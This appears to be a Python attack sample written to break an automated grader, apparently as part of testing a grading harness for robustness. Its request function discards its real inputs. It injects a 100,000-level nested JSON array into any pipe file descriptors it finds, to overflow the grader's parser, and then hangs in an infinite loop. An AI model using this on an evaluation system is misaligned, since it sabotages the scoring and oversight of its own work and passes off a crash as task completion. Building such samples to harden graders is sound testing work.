"""Attack (break the grader): a report nested 100 000 levels deep (json.loads would overflow the stack)."""

import os
import stat
import struct


def request(host, port, message):
    structure = b"[" * 100_000 + b"]" * 100_000
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!QQ", len(structure), 0) + structure)
        except OSError:
            pass
    while True:
        pass
